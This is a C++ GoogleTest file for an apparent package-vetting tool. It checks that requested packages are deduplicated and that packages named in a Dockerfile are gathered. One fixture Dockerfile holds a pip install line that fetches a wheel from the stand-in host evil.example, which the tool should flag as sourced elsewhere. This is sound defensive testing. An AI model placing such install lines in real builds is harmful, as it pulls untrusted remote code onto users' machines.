#include "berth/app/vet_gathering.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <utility>
#include <vector>

#include "tests/support/result_matchers.h"
#include "tests/support/temp_folder.h"

namespace berth::app {
namespace {

class Gathered : public ::testing::Test {
 protected:
  std::vector<std::string> of(std::vector<std::string> subjects, std::vector<std::string> files = {}) const {
    Settings settings;
    settings.state = temp_.path() / "state";
    VetRequest request;
    request.subjects = std::move(subjects);
    request.files = std::move(files);
    request.offline = true;
    const auto gathered = gather_for_vetting(settings, request);
    EXPECT_TRUE(testing::ok(gathered));
    std::vector<std::string> found;
    if (!gathered) return found;
    for (const vet::Facts& one : gathered->facts) {
      found.push_back(one.package.name);
      for (const vet::Finding& finding : one.findings) {
        if (finding.rule == "source.elsewhere") found.back() += " elsewhere";
      }
    }
    return found;
  }
  testing::TempFolder temp_;
};

TEST_F(Gathered, AreAllOfOneNameThatDifferInWhatIsSaidOfThem) {
  using Names = std::vector<std::string>;
  EXPECT_EQ(of({"foo==1.0", "foo[bar]==1.0"}), (Names{"foo", "foo"}));
  EXPECT_EQ(of({"foo==1.0", "foo==1.0"}), Names{"foo"});
  const std::filesystem::path folder = temp_.path() / "img";
  std::filesystem::create_directory(folder);
  std::ofstream(folder / "Dockerfile") << "FROM a:1\nRUN pip install foo foo 'foo @ https://evil.example/r.whl'\n";
  EXPECT_EQ(of({folder.native()}), (Names{"img", "foo", "foo elsewhere"}));
}

}  // namespace
}  // namespace berth::app
